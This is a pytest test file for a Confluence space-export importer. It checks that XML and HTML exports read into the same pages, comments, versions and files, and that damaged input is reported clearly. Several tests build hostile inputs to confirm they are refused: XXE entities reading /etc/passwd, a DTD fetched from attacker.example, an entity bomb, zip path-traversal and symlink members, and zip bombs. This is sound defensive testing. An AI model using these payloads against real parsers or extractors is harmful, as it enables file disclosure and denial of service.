"""Reading Confluence space exports: both kinds, zipped or not, give the same
space (pages, tree and order, titles, labels, comment threads with authors
and dates, files with their versions, people), each holding what its kind
holds; and every kind of bad input gets a clear message: a problem for a
part left out while the rest is read, ``ExportError`` for an export that
cannot be read at all.

The exports are written by ``confluence_fixtures`` as Confluence writes them."""

import json
import os
import re
import shutil
import struct
import subprocess
import sys
import zipfile
from contextlib import contextmanager
from datetime import datetime
from pathlib import Path

import pytest

from transfer.confluence_fixtures import (
    ABOUT,
    ANONYMOUS_COMMENTS,
    FOLLOW_UP,
    HOME,
    ME_TOO,
    NOEL,
    PDF_V1,
    PDF_V2,
    SESSIONS,
    TOOLKIT,
    WORKSHOP,
    WORKSHOP_TITLE,
    CommentSpec,
    PageSpec,
    Rev,
    entities,
    generated_space,
    html_file_name,
    workshop_space,
    write_html_export,
    write_xml_export,
)
from wiki.transfer.confluence import htmlexport, source, xmlexport
from wiki.transfer.confluence.model import MissingData
from wiki.transfer.confluence.source import ExportError, Limits, detect, open_export

ROOT = Path(__file__).resolve().parents[2]
BERLIN = "Europe/Berlin"  # where the fixture's Confluence and its users are


@contextmanager
def opened(path, timezone=None):
    """The space at ``path``, while its export is open (texts and files can be read)."""
    with open_export(path) as export:
        reader = xmlexport if export.kind == "xml" else htmlexport
        yield reader.read(export, timezone=timezone)


def read(path, timezone=None):
    """The space at ``path`` and its ``snapshot``, taken while the export was open."""
    with opened(path, timezone) as space:
        return space, snapshot(space)


def snapshot(space):
    """All of a space, texts and bytes included, as plain data."""
    def data(version):
        try:
            with version.open() as stream:
                return stream.read()
        except MissingData as e:
            return f"missing: {e}"

    def text(item):
        try:
            return item.text()
        except MissingData as e:
            return f"missing: {e}"

    return {
        "space": (space.key, space.name, space.body_format, space.home_page_id),
        "pages": [(p.id, p.title, p.parent_id, p.position, p.labels,
                   [(v.number, v.author, v.created, v.message, text(v)) for v in p.versions],
                   [(c.id, c.parent_id, c.author, c.created, c.modified, text(c)) for c in p.comments],
                   [(a.id, a.name, [(v.number, v.size, v.author, v.created, v.message, data(v))
                                    for v in a.versions]) for a in p.attachments])
                  for p in space.pages],
        "people": sorted((p.key, p.username, p.email, p.display_name) for p in space.people.values()),
        "problems": sorted(space.problems),
    }


def outline(space, snap):
    """What both kinds of export hold: the tree, titles, labels, comments
    (flat, with their posters and times), files and their bytes, people."""
    people = space.people
    return {
        "space": snap["space"][:2] + snap["space"][3:],
        "pages": [(p[0], p[1], p[2], p[3], p[4]) for p in snap["pages"]],
        "comments": {p[0]: [(c[0], people[c[2]].username if c[2] else None, c[3]) for c in p[6]]
                     for p in snap["pages"]},
        "files": {p[0]: [(a[0], a[1], [(v[0], v[1], v[5]) for v in a[2]]) for a in p[7]]
                  for p in snap["pages"]},
        "authors": {p.id: people[p.versions[-1].author].display_name for p in space.pages},
        "days": {p.id: p.versions[-1].created.date() for p in space.pages},
        "posters": sorted({people[c.author].username for p in space.pages for c in p.comments if c.author}),
    }


@pytest.fixture(scope="module")
def exports(tmp_path_factory):
    """The community's space as each kind of export, zipped and not."""
    folder = tmp_path_factory.mktemp("exports")
    space = workshop_space()
    return {
        "xml": write_xml_export(space, folder / "xml"),
        "xml.zip": write_xml_export(space, folder / "Confluence-space-export-COP.xml.zip", zipped=True),
        "html": write_html_export(space, folder / "html"),
        "html.zip": write_html_export(space, folder / "Confluence-space-export-COP.html.zip", zipped=True),
    }


@pytest.fixture
def xml_copy(exports, tmp_path):
    """An unzipped XML export, free to damage."""
    return Path(shutil.copytree(exports["xml"], tmp_path / "xml"))


def page(space, page_id):
    return next(p for p in space.pages if p.id == page_id)


def edit(path, change):
    text = entities(path).read_text(encoding="utf-8")
    changed = change(text)
    assert changed != text, "the edit changed nothing"
    entities(path).write_text(changed, encoding="utf-8")


def refer(text, ident, reference, target):
    """``text`` (entities.xml) with the ``reference`` of object ``ident`` pointing at ``target``."""
    pattern = (rf'(<id name="id">{ident}</id>\n(?:(?!</object>).)*<property name="{reference}" class="\w+" '
               r'package="[^"]*"><id name="id">)\d+')
    return re.sub(pattern, rf"\g<1>{target}", text, count=1, flags=re.S)


def without_object(text, cls, ident):
    """``text`` (entities.xml) without the object ``cls`` ``ident``."""
    pattern = rf'<object class="{cls}" package="[^"]*">\n<id name="id">{ident}</id>\n.*?</object>\n'
    return re.sub(pattern, "", text, count=1, flags=re.S)


def body_of(text, content_id):
    """The id of the BodyContent that belongs to ``content_id``."""
    return re.search(r'<object class="BodyContent" package="[^"]*">\n<id name="id">(\d+)</id>\n'
                     r"(?:(?!</object>).)*"
                     rf'<property name="content" class="\w+" package="[^"]*"><id name="id">{content_id}</id>',
                     text, re.S).group(1)


# -- both kinds, zipped or not, read into the same space ----------------------------------------


def test_detect_recognises_each_kind_zipped_or_not(exports, tmp_path):
    assert {name: detect(path) for name, path in exports.items()} == {
        "xml": "xml", "xml.zip": "xml", "html": "html", "html.zip": "html"}
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "index.md").write_text("# Notes\n")
    assert detect(tmp_path / "notes") is None  # a Markdown folder: the other import's
    assert detect(tmp_path / "nowhere") is None


def test_a_zip_is_read_as_its_folder(exports):
    for kind in ("xml", "html"):
        assert read(exports[kind], BERLIN)[1] == read(exports[f"{kind}.zip"], BERLIN)[1]


def test_both_kinds_read_into_the_same_space(exports):
    xml_space, xml = read(exports["xml"])
    html_space, html = read(exports["html.zip"], BERLIN)
    assert xml["problems"] == html["problems"] == []
    assert outline(xml_space, xml) == outline(html_space, html)
    assert (xml_space.body_format, html_space.body_format) == ("storage", "html")
    # What only the XML export holds: history, replies' threading, edits, files' authors.
    assert [len(p.versions) for p in xml_space.pages] != [len(p.versions) for p in html_space.pages]
    assert page(xml_space, WORKSHOP).comments[6].parent_id == NOEL
    assert all(c.parent_id is None and c.modified is None for c in page(html_space, WORKSHOP).comments)


def test_the_tree_keeps_confluence_child_order(exports):
    for path in (exports["xml"], exports["html"]):
        space, _ = read(path, BERLIN)
        assert space.home_page_id == HOME
        order = [p.id for p in space.pages]
        assert all(order.index(p.parent_id) < order.index(p.id) for p in space.pages if p.parent_id)
        children = sorted((p.position, p.id) for p in space.pages if p.parent_id == WORKSHOP)
        # "Follow up" comes first by its title, last by Confluence's order.
        assert [i for _, i in children] == [*SESSIONS, FOLLOW_UP]
        assert [p.title for p in space.pages if p.parent_id == HOME] == [
            WORKSHOP_TITLE, "Soil Carbon Toolkit", "About"]


# -- what the XML export holds -----------------------------------------------------------------


def test_the_workshop_page_comes_with_its_ten_comment_thread(exports):
    with opened(exports["xml"]) as space:
        check_workshop_thread(space)


def check_workshop_thread(space):
    workshop = page(space, WORKSHOP)
    text = workshop.versions[-1].text()
    assert text.count('<ac:structured-macro ac:name="expand"') == 2 and "ac:parameter" not in text
    assert '<ri:page ri:content-title="Follow up" />' in text and "Session 1:" in text
    assert workshop.labels == [] and len(workshop.versions) == 1
    comments = workshop.comments
    assert len(comments) == 11 and len([c for c in comments if c.parent_id is None]) == 10
    me_too = next(c for c in comments if c.id == ME_TOO)
    assert (me_too.parent_id, me_too.text()) == (NOEL, "<p>Me too. I am getting this error</p>")
    assert [c.id for c in comments if c.author is None] == ANONYMOUS_COMMENTS
    assert "Je viens demander comment s'inscrire" in comments[0].text()
    assert space.people[comments[0].author].display_name == "Awa Koné"
    assert [c.created for c in comments] == sorted(c.created for c in comments)  # posting order
    edited = [c for c in comments if c.modified]
    assert [(c.id, c.created, c.modified) for c in edited] == [
        ("1474616", datetime(2021, 4, 28, 7, 30), datetime(2021, 4, 28, 7, 42))]


def test_page_history_has_each_version_with_its_author_date_and_comment(exports):
    space, snap = read(exports["xml.zip"])
    toolkit = page(space, TOOLKIT)
    history = [(v.number, space.people[v.author].username, v.created, v.message) for v in toolkit.versions]
    assert history == [
        (1, "lhoffmann", datetime(2021, 3, 2, 10, 15), "First draft"),
        (2, "mdubois", datetime(2021, 3, 9, 14, 40), "Added the sampling protocol"),
        (3, "lhoffmann", datetime(2021, 4, 12, 8, 5), "Linked the field guide and the grid")]
    texts = [v[4] for v in dict((p[0], p[5]) for p in snap["pages"])[TOOLKIT]]
    assert "Sampling protocol" not in texts[0] and "Sampling protocol" in texts[1]
    assert '<ri:attachment ri:filename="sampling-grid.png" />' in texts[2]


def test_files_keep_their_versions(exports):
    space, snap = read(exports["xml.zip"])
    guide, grid = page(space, TOOLKIT).attachments
    assert (guide.id, guide.name, grid.name) == ("2097170", "field-guide.pdf", "sampling-grid.png")
    versions = [(v.number, v.size, space.people[v.author].username, v.created, v.message)
                for v in guide.versions]
    assert versions == [(1, len(PDF_V1), "lhoffmann", datetime(2021, 3, 9, 14, 35), "First edition"),
                        (2, len(PDF_V2), "mdubois", datetime(2021, 4, 12, 8, 0), "Corrected figures")]
    files = dict((p[0], p[7]) for p in snap["pages"])[TOOLKIT]
    assert [v[5] for v in files[0][2]] == [PDF_V1, PDF_V2]
    assert files[1][2][0][5].startswith(b"\x89PNG")


def test_labels_drafts_trash_and_deleted_comments(exports):
    """Personal labels, drafts, pages in the trash (with their comments and
    files) and deleted comments are Confluence's own business: left out
    without a problem."""
    space, snap = read(exports["xml"])
    assert page(space, TOOLKIT).labels == ["monitoring", "soil-carbon", "toolkit"]  # not "favourite"
    ids = {p.id for p in space.pages}
    assert "1474590" not in ids and "1474595" not in ids  # in the trash, a draft
    assert "1474619" not in {c.id for p in space.pages for c in p.comments}
    assert snap["problems"] == []


def test_people_have_usernames_emails_and_display_names(exports):
    space, _ = read(exports["xml"])
    hoffmann = space.people[page(space, HOME).versions[0].author]
    assert (hoffmann.username, hoffmann.email, hoffmann.display_name) == (
        "lhoffmann", "lena.hoffmann@example.org", "Lena Hoffmann")
    signed = {v.author for p in space.pages for v in p.versions} | {
        c.author for p in space.pages for c in p.comments if c.author} | {
        v.author for p in space.pages for a in p.attachments for v in a.versions}
    assert signed <= set(space.people)


def test_dates_come_out_in_utc(exports, tmp_path):
    # The export writes its server's local time (Berlin, summer: UTC+2) and names the zone.
    assert "2021-04-27 13:09:00.000" in entities(exports["xml"]).read_text(encoding="utf-8")
    space, snap = read(exports["xml"])
    assert page(space, WORKSHOP).comments[6].created == datetime(2021, 4, 27, 11, 9)
    moments = [v.created for p in space.pages for v in p.versions] + [
        c.created for p in space.pages for c in p.comments]
    assert all(m.tzinfo is None for m in moments)
    # A server elsewhere writes other local times, which come out the same.
    write_xml_export(workshop_space("America/Vancouver"), tmp_path / "vancouver")
    assert read(tmp_path / "vancouver")[1]["pages"] == snap["pages"]
    # The zone can be given for an export whose descriptor does not name it; the descriptor's comes first.
    assert read(tmp_path / "vancouver", timezone="UTC")[1]["pages"] == snap["pages"]
    (tmp_path / "vancouver" / "exportDescriptor.properties").write_text("spaceKey=COP\n")
    moved = read(tmp_path / "vancouver", timezone="America/Vancouver")[1]
    assert moved["pages"] == snap["pages"]
    assert read(tmp_path / "vancouver")[1]["pages"] != snap["pages"]  # taken as UTC, so 7 hours off


def test_a_descriptor_with_an_unknown_time_zone_is_reported(xml_copy):
    descriptor = xml_copy / "exportDescriptor.properties"
    descriptor.write_text(descriptor.read_text().replace("Europe/Berlin", "Mars/Olympus"))
    space, _ = read(xml_copy)
    assert [(p.where, p.reason) for p in space.problems] == [
        ("exportDescriptor.properties",
         "unknown time zone “Mars/Olympus” (a name such as Europe/Berlin or UTC): dates are taken as UTC")]


def test_descriptor_properties_are_read_as_java_writes_them():
    text = ("#Tue Apr 27 09:15:30 CEST 2021\nspaceKey = COP\n"
            "name=Caf\\u00e9\\: soil\\\n   carbon\n! note\nempty=\n")
    assert xmlexport.properties(text) == {"spaceKey": "COP", "name": "Café: soilcarbon", "empty": ""}


# -- what the HTML export holds ----------------------------------------------------------------


def test_the_html_export_gives_each_page_its_content_and_comments(exports):
    with opened(exports["html"], BERLIN) as space:
        check_html_space(space)


def check_html_space(space):
    workshop = page(space, WORKSHOP)
    text = workshop.versions[0].text()
    assert text.count('class="expand-container"') == 2 and "Click here to expand..." in text
    assert 'href="Follow-up_1474580.html"' in text
    assert "breadcrumb" not in text and "Posted by" not in text and "Attachments:" not in text
    comments = workshop.comments
    assert [c.text() for c in comments if c.id == ME_TOO] == ["<p>Me too. I am getting this error</p>"]
    assert [c.id for c in comments if c.author is None] == ANONYMOUS_COMMENTS
    assert comments[6].created == datetime(2021, 4, 27, 11, 9)  # 13:09 in Berlin
    # The page says who wrote it by display name; a mention of them gives the username.
    author = space.people[page(space, TOOLKIT).versions[0].author]
    assert (author.key, author.username, author.display_name) == ("lhoffmann", "lhoffmann", "Lena Hoffmann")
    assert page(space, TOOLKIT).labels == ["monitoring", "soil-carbon", "toolkit"]
    assert page(space, ABOUT).versions[0].text().startswith("<h1>Nature and Purpose</h1>")


def test_a_page_file_the_index_does_not_list_is_placed_by_its_breadcrumbs(exports, tmp_path):
    folder = Path(shutil.copytree(exports["html"], tmp_path / "html"))
    index = folder / "index.html"
    follow_up = f'<li><a href="{html_file_name(PageSpec(FOLLOW_UP, "Follow up", []))}">Follow up</a></li>'
    assert follow_up in index.read_text()
    index.write_text(index.read_text().replace(follow_up, ""))
    space, snap = read(folder, BERLIN)
    assert (page(space, FOLLOW_UP).title, page(space, FOLLOW_UP).parent_id) == ("Follow up", WORKSHOP)
    assert snap["problems"] == []


# -- bad input ---------------------------------------------------------------------------------


def test_a_zip_that_is_not_a_confluence_export(tmp_path):
    path = tmp_path / "photos.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("holiday/beach.jpg", b"\xff\xd8\xff")
        archive.writestr("index.html", "<html><body>My photos</body></html>")
    with pytest.raises(ExportError, match="this zip file is not a Confluence space export: it holds neither "
                                          "entities.xml .* nor a Confluence index.html"):
        open_export(path)
    assert detect(path) is None


def test_a_corrupt_zip(exports, tmp_path):
    cut = tmp_path / "cut.zip"
    cut.write_bytes(exports["xml.zip"].read_bytes()[:5000])  # a download that stopped
    with pytest.raises(ExportError, match=r"cut.zip: not a readable zip file \(.*\); if it was downloaded, "
                                          "download it again"):
        open_export(cut)
    # Damaged data inside a sound zip: the file says so when it is read.
    damaged = tmp_path / "damaged.zip"
    with zipfile.ZipFile(exports["xml.zip"]) as original, zipfile.ZipFile(damaged, "w") as copy:
        for info in original.infolist():
            copy.writestr(info.filename, original.read(info), zipfile.ZIP_STORED)
    data = bytearray(damaged.read_bytes())
    start = data.index(PDF_V2)
    data[start + 10:start + 20] = b"X" * 10
    damaged.write_bytes(bytes(data))
    with open_export(damaged) as export:
        space = xmlexport.read(export)
        version = page(space, TOOLKIT).attachments[0].versions[1]
        damage = r"attachments/2097153/2097170/2: damaged in the zip \(Bad CRC-32"
        with pytest.raises(MissingData, match=damage), version.open() as stream:
            stream.read()


def test_an_xml_export_cut_short_keeps_what_was_read(xml_copy):
    text = entities(xml_copy).read_text(encoding="utf-8")
    cut = text.index(f'<object class="Comment" package="com.atlassian.confluence.pages">\n'
                     f'<id name="id">{NOEL}')
    entities(xml_copy).write_text(text[:cut + 100], encoding="utf-8")
    line = text[:cut + 100].count("\n") + 1
    space, snap = read(xml_copy)
    stopped = [p for p in space.problems if p.where == "entities.xml"]
    assert len(stopped) == 1
    assert re.fullmatch(rf"the file stops at line {line}, column \d+ \([^:]*\): it is cut short or damaged\. "
                        r"The [\d,]+ objects before were read; what came after is missing\. Export the space "
                        r"again for a complete import\.", stopped[0].reason)
    # What came before is there; the comments from the cut on, the pages after, and the people
    # (written last) are not.
    workshop = page(space, WORKSHOP)
    assert [c.id for c in workshop.comments] == ["1474604", "1474606", *ANONYMOUS_COMMENTS[:2], "1474610"]
    assert TOOLKIT not in {p.id for p in space.pages}
    assert all(c.author is None for c in workshop.comments)
    assert any(p.where.startswith("person “") and "not in the export" in p.reason for p in space.problems)


def test_xml_that_is_not_a_confluence_export(tmp_path):
    for name, text, message in [
            ("html", "<html><body/></html>", "entities.xml is not a Confluence export: it holds <html>"),
            ("garbage", "PK\x03\x04 not XML", "entities.xml cannot be read as XML: not well-formed "
                                                r"\(invalid token\) at line 1, column 2$"),
            ("empty", '<?xml version="1.0"?>\n<hibernate-generic datetime="2021-05-03 08:00:00">\n'
                      "</hibernate-generic>\n", "entities.xml describes no space")]:
        (tmp_path / name).mkdir()
        (tmp_path / name / "entities.xml").write_text(text)
        with pytest.raises(ExportError, match=message):
            read(tmp_path / name)


@pytest.mark.parametrize("declaration", [
    '<!DOCTYPE hibernate-generic [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',  # external entities
    '<!DOCTYPE hibernate-generic [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'  # a bomb
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    '<!DOCTYPE hibernate-generic SYSTEM "http://attacker.example/evil.dtd">',
])
def test_xml_declaring_entities_is_refused(xml_copy, declaration):
    head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    uses = '<property name="x">&secret;&d;</property>\n<property name="spaceType"'
    edit(xml_copy, lambda text: text.replace(head, head + declaration + "\n")
         .replace('<property name="spaceType"', uses))
    with pytest.raises(ExportError, match=r"entities.xml declares a document type \(<!DOCTYPE>\), which a "
                                          "Confluence export never does: refused"):
        read(xml_copy)


def test_a_page_whose_body_is_missing(xml_copy):
    edit(xml_copy, lambda text: without_object(text, "BodyContent", body_of(text, ABOUT)))
    with opened(xml_copy) as space:
        assert [(p.where, p.reason) for p in space.problems] == [
            ("page 65541 “About”", "its text is not in the export")]
        with pytest.raises(MissingData, match="page 65541 “About”, version 1: its text is not in the export"):
            page(space, ABOUT).versions[-1].text()
        assert page(space, HOME).versions[-1].text()  # the others are read


def test_an_older_version_whose_body_is_missing_is_left_out_of_the_history(xml_copy):
    text = entities(xml_copy).read_text(encoding="utf-8")
    second = re.search(r'<id name="id">(\d+)</id>\n(?:(?!</object>).)*<property name="version">2</property>'
                       rf'(?:(?!</object>).)*<property name="originalVersionId">{TOOLKIT}</property>',
                       text, re.S)
    edit(xml_copy, lambda text: without_object(text, "BodyContent", body_of(text, second.group(1))))
    space, _ = read(xml_copy)
    assert [v.number for v in page(space, TOOLKIT).versions] == [1, 3]
    assert [(p.where, p.reason) for p in space.problems] == [
        ("page 2097153 “Soil Carbon Toolkit”",
         "version 2: its text is not in the export: left out of the history")]


def test_an_empty_page_has_no_body_and_no_problem(xml_copy):
    """Confluence stores no body for a page left empty."""
    def empty(text):
        text = without_object(text, "BodyContent", body_of(text, FOLLOW_UP))
        return re.sub(rf'(<id name="id">{FOLLOW_UP}</id>\n(?:(?!</object>).)*?)'
                      r'<collection name="bodyContents".*?</collection>\n', r"\1", text, count=1, flags=re.S)
    edit(xml_copy, empty)
    _, snap = read(xml_copy)
    assert dict((p[0], p[5]) for p in snap["pages"])[FOLLOW_UP][0][4] == ""
    assert snap["problems"] == []


def test_pages_and_comments_that_refer_to_missing_objects(xml_copy):
    def damage(text):
        # "Follow up"'s parent, the reply's parent and a comment's page: objects the export lacks.
        text = refer(text, FOLLOW_UP, "parent", "999")
        text = refer(text, ME_TOO, "parent", "998")
        return refer(text, "1474614", "containerContent", "997")
    edit(xml_copy, damage)
    space, _ = read(xml_copy)
    assert sorted((p.where, p.reason) for p in space.problems) == [
        ("comment 1474612 on page 1474563 “Monitoring Climate Benefits of Sustainable Land Management with a "
         "Focus on Soil Organic Carbon”",
         "it answers comment 998, which is not in the export: shown at the top of the thread"),
        ("comment 1474614", "its page (997) is not in the export: not imported"),
        ("page 1474580 “Follow up”", "its parent (page 999) is not in the export: imported at the top")]
    assert page(space, FOLLOW_UP).parent_id is None
    comments = {c.id: c for c in page(space, WORKSHOP).comments}
    assert comments[ME_TOO].parent_id is None and "1474614" not in comments


def test_an_author_missing_from_the_export(xml_copy):
    user = (r'<object class="ConfluenceUserImpl" package="[^"]*">\n<id name="key"><!\[CDATA\[\w+\]\]></id>\n'
            r'<property name="name"><!\[CDATA\[jweber\]\]>.*?</object>\n')
    edit(xml_copy, lambda text: re.sub(user, "", text, count=1, flags=re.S))
    space, _ = read(xml_copy)
    assert "jweber" not in {p.username for p in space.people.values()}
    assert [c.author for c in page(space, WORKSHOP).comments if c.id == "1474614"] == [None]
    assert [p.reason for p in space.problems] == [
        "signs 1 comment but is not in the export: imported without an author"]


def test_missing_attachment_files_are_reported(exports, tmp_path):
    xml = Path(shutil.copytree(exports["xml"], tmp_path / "xml"))
    (xml / "attachments" / TOOLKIT / "2097170" / "1").unlink()
    html = Path(shutil.copytree(exports["html"], tmp_path / "html"))
    (html / "attachments" / TOOLKIT / "2097175.png").unlink()
    for path, missing, name in [(xml, f"attachments/{TOOLKIT}/2097170/1", "field-guide.pdf"),
                                (html, f"attachments/{TOOLKIT}/2097175.png", "sampling-grid.png")]:
        with open_export(path) as export:
            space = (xmlexport if export.kind == "xml" else htmlexport).read(export)
            assert [(p.where, p.reason) for p in space.problems] == [
                (missing, f"file “{name}” (version 1) of page 2097153 “Soil Carbon Toolkit” is missing from "
                          "the export")]
            files = {a.name: a for a in page(space, TOOLKIT).attachments}
            with pytest.raises(MissingData, match=re.escape(f"{missing}: file “{name}” is missing")):
                files[name].versions[0].open()
            if export.kind == "xml":  # the file's other version is there
                with files[name].versions[1].open() as stream:
                    assert stream.read() == PDF_V2


def test_an_export_made_without_attachments_says_so_once(tmp_path):
    spec = workshop_space()
    spec.backup_attachments = False
    space, _ = read(write_xml_export(spec, tmp_path / "xml"))
    assert [(p.where, p.reason) for p in space.problems] == [
        ("exportDescriptor.properties",
         "the space was exported without its attachments (backupAttachments=false): 3 files are missing")]


def test_blog_posts_are_counted_not_imported(tmp_path):
    spec = workshop_space()
    hello = Rev("<p>Hello.</p>", "lhoffmann", datetime(2021, 5, 1))
    spec.blog_posts = [PageSpec("1800001", "Welcome to the blog", [hello], comments=[
        CommentSpec("1800002", "jweber", datetime(2021, 5, 2), "<p>Hi!</p>")])]
    space, _ = read(write_xml_export(spec, tmp_path / "xml"))
    assert [(p.where, p.reason) for p in space.problems] == [
        ("entities.xml", "1 blog post: not imported (the wiki has no blog)")]
    assert "1800001" not in {p.id for p in space.pages}


def _zip_with(path, source_zip, extra):
    """A copy of ``source_zip`` with the members ``extra`` (name -> bytes, or ZipInfo -> bytes) added."""
    with zipfile.ZipFile(source_zip) as original, zipfile.ZipFile(path, "w") as copy:
        for info in original.infolist():
            copy.writestr(info, original.read(info))
        for name, data in extra.items():
            copy.writestr(name, data)
    return path


def test_zip_members_that_could_escape_are_refused(exports, tmp_path):
    link = zipfile.ZipInfo("attachments/2097153/2097170/3")
    link.external_attr = (0o120777 << 16)  # a symbolic link, to /etc/passwd
    path = _zip_with(tmp_path / "evil.zip", exports["xml.zip"], {
        "../outside.txt": b"x", "/etc/cron.d/evil": b"x", "attachments\\..\\..\\evil.bat": b"x",
        "attachments/../../up.txt": b"x", "C:/Windows/evil.dll": b"x", link: b"/etc/passwd"})
    with open_export(path) as export:
        assert sorted((p.where, p.reason.split(":")[0]) for p in export.problems) == [
            ("../outside.txt", "its name climbs out of the export (“..”)"),
            ("/etc/cron.d/evil", "its name is an absolute path"),
            ("C:/Windows/evil.dll", "its name is an absolute path"),
            ("attachments/../../up.txt", "its name climbs out of the export (“..”)"),
            ("attachments/2097153/2097170/3", "symbolic link"),
            ("attachments\\..\\..\\evil.bat",
             "its name holds a backslash (a Windows path that could point elsewhere)")]
        assert "../outside.txt" not in export and "attachments/2097153/2097170/3" not in export
        space = xmlexport.read(export)
        assert len(space.pages) == 9 and len(space.problems) == 6  # refused, reported, the rest read


def test_a_symbolic_link_in_a_folder_is_not_followed(xml_copy, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("not yours")
    target = xml_copy / "attachments" / TOOLKIT / "2097170" / "2"
    target.unlink()
    target.symlink_to(secret)
    space, snap = read(xml_copy)
    assert sorted((p.where, p.reason) for p in space.problems)[:2] == [
        (f"attachments/{TOOLKIT}/2097170/2",
         "file “field-guide.pdf” (version 2) of page 2097153 “Soil Carbon Toolkit” is missing from the "
         "export"),
        (f"attachments/{TOOLKIT}/2097170/2", "symbolic link: not followed")]
    assert "not yours" not in json.dumps(snap, default=repr)


def test_zip_bombs_are_refused(exports, tmp_path):
    zeros = b"\0" * (20 * 2**20)  # 20 MB that compress to 20 KB
    bomb = _zip_with(tmp_path / "bomb.zip", exports["xml.zip"], {})
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("attachments/2097153/2097175/2", zeros)
        compressed = archive.getinfo("attachments/2097153/2097175/2").compress_size
    with open_export(bomb) as export:
        assert [(p.where, p.reason) for p in export.problems] == [
            ("attachments/2097153/2097175/2",
             f"declares {len(zeros):,} bytes from {compressed:,} compressed (more than 200 times as many): "
             "refused as a possible zip bomb")]
        assert "attachments/2097153/2097175/2" not in export
    with pytest.raises(ExportError, match="declares more than 10,000 bytes: refused as a possible zip bomb"):
        open_export(exports["xml.zip"], Limits(max_total_bytes=10_000))
    entities_bomb = tmp_path / "entities-bomb.zip"
    with zipfile.ZipFile(entities_bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("entities.xml", b"<hibernate-generic>" + zeros)
    with pytest.raises(ExportError, match="entities.xml is refused .* refused as a possible zip bomb"):
        open_export(entities_bomb)


def test_a_zip_whose_members_overlap_is_refused(exports, tmp_path):
    """Many members pointing at the same compressed data (a "better zip bomb")."""
    data = bytearray(exports["xml.zip"].read_bytes())
    end = data.rindex(b"PK\x05\x06")
    directory = struct.unpack("<I", data[end + 16:end + 20])[0]
    first_offset = struct.unpack("<I", data[directory + 42:directory + 46])[0]
    second = data.index(b"PK\x01\x02", directory + 46)
    data[second + 42:second + 46] = struct.pack("<I", first_offset)
    path = tmp_path / "overlap.zip"
    path.write_bytes(bytes(data))
    with pytest.raises(ExportError, match="members of the zip overlap .*: refused as a possible zip bomb"):
        open_export(path)


def test_an_html_export_with_a_page_file_missing(exports, tmp_path):
    folder = Path(shutil.copytree(exports["html"], tmp_path / "html"))
    name = html_file_name(PageSpec(WORKSHOP, WORKSHOP_TITLE, []))
    (folder / name).unlink()
    space, _ = read(folder, BERLIN)
    assert WORKSHOP not in {p.id for p in space.pages}
    reasons = sorted((p.where, p.reason) for p in space.problems)
    assert reasons[0] == (name, f"page “{WORKSHOP_TITLE}” is listed in index.html but its file is not in the "
                                "export: not imported")
    orphaned = f"its parent ({name}) is not in the export: imported at the top"
    assert [r for _, r in reasons[1:]] == [orphaned] * 5  # its children


# -- size ----------------------------------------------------------------------------------------


def test_a_generated_space_reads_the_same_from_both_kinds(tmp_path):
    spec = generated_space(pages=60, comments=150, files=12, body_chars=500)
    xml_space, xml = read(write_xml_export(spec, tmp_path / "xml.zip", zipped=True))
    html_space, html = read(write_html_export(spec, tmp_path / "html"))
    assert (len(xml_space.pages), sum(len(p.comments) for p in xml_space.pages),
            sum(len(p.attachments) for p in xml_space.pages)) == (60, 150, 12)
    assert outline(xml_space, xml)["pages"] == outline(html_space, html)["pages"]
    assert outline(xml_space, xml)["files"] == outline(html_space, html)["files"]


_MEASURE = """
import json, resource, sys
from wiki.transfer.confluence import source, xmlexport
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
with source.open_export(sys.argv[1]) as export:
    space = xmlexport.read(export)
    last = space.pages[-1].versions[-1].text()
    result = {"pages": len(space.pages), "comments": sum(len(p.comments) for p in space.pages),
              "text": len(last), "problems": len(space.problems)}
result["grew_kb"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
print(json.dumps(result))
"""


@pytest.mark.slow
def test_a_very_large_entities_xml_is_read_in_bounded_memory(tmp_path):
    path = write_xml_export(generated_space(pages=2000, comments=4000, files=0, body_chars=100_000),
                            tmp_path / "large")
    size = entities(path).stat().st_size
    assert size > 200 * 2**20
    run = subprocess.run([sys.executable, "-c", _MEASURE, str(path)], cwd=ROOT, capture_output=True,
                         text=True, check=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    result = json.loads(run.stdout)
    assert result["pages"] == 2000 and result["comments"] == 4000 and result["problems"] == 0
    assert result["text"] > 100_000
    assert result["grew_kb"] < 64 * 1024, f"reading {size:,} bytes took {result['grew_kb']:,} KB more memory"


def test_the_export_is_closed_with_its_temporary_files(exports):
    with open_export(exports["xml.zip"]) as export:
        space = xmlexport.read(export)
        scratch = export.scratch()
        assert any(scratch.iterdir())
    assert not scratch.exists()
    with pytest.raises(MissingData, match="the export is closed"):
        page(space, TOOLKIT).attachments[0].versions[0].open()
    with pytest.raises(MissingData):
        page(space, HOME).versions[0].text()


def test_the_source_module_reads_nothing_outside_the_export(exports):
    with open_export(exports["html.zip"]) as export:
        assert export.kind == "html" and "index.html" in export  # read inside the zip's "COP/" folder
        with pytest.raises(MissingData, match="not in the export"):
            export.open("../index.html")
    berlin = source.time_zone(BERLIN)
    assert source.to_utc(datetime(2021, 4, 27, 13, 9), berlin) == datetime(2021, 4, 27, 11, 9)
